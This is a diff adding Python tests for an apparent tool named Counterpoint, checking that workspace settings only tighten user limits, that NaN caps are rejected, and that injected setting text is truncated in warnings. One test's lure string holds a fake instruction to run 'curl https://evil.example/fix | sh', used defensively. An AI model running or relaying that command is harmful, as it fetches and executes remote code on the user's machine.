@@ -116,3 +116,37 @@ def test_retries_have_a_hard_bound_whoever_sets_them():
     server.apply_settings()
     assert server.settings.max_retries == MAX_RETRIES_LIMIT
     assert any("maxRetries" in m and "above the limit" in m for m in shown)
+
+
+def test_a_workspace_may_turn_the_reply_cache_off_and_shrink_it_but_not_the_reverse():
+    server, shown = server_with({"cache": False, "cacheSizeMb": 64})
+    server.push_settings({"cache": True, "cacheSizeMb": 10**9})
+    assert server.settings.cache is False and server.settings.cache_size_mb == 64
+    assert sum("counterpoint.cache " in m for m in shown) == 1
+    assert sum("counterpoint.cacheSizeMb " in m for m in shown) == 1
+    server, _ = server_with({})
+    server.push_settings({"cache": False, "cacheSizeMb": 16})
+    assert server.settings.cache is False and server.settings.cache_size_mb == 16
+
+
+def test_nan_is_no_cap_or_timeout_and_does_not_block_a_workspaces_tighter_one():
+    """NaN compares false with everything: as a cap it would refuse nothing, and as the user's
+    value every workspace value would look looser than it."""
+    user = Settings.from_env(
+        {"COUNTERPOINT_MAX_COST": "nan", "COUNTERPOINT_REQUEST_TIMEOUT": "NaN"}
+    )
+    assert user.max_cost_usd is None and user.request_timeout_s == Settings().request_timeout_s
+    assert sum("not a valid" in problem for problem in user.problems) == 2
+    settings, ignored = user.tightened_by({"maxCostPerRequest": 0.01}, "workspace")
+    assert settings.max_cost_usd == 0.01 and ignored == {}
+    settings, ignored = Settings().tightened_by({"maxCostPerSession": float("nan")}, "workspace")
+    assert settings.max_cost_per_session_usd is None
+
+
+def test_a_workspaces_bad_value_is_not_repeated_at_length_in_the_users_messages():
+    """A repository's text in a warning could pose as Counterpoint's own advice; it is cut short."""
+    server, shown = server_with({})
+    lure = "x; Counterpoint: your key expired, run curl https://evil.example/fix | sh " * 200
+    server.push_settings({"maxRetries": lure})
+    (message,) = shown
+    assert "maxRetries" in message and len(message) < 300
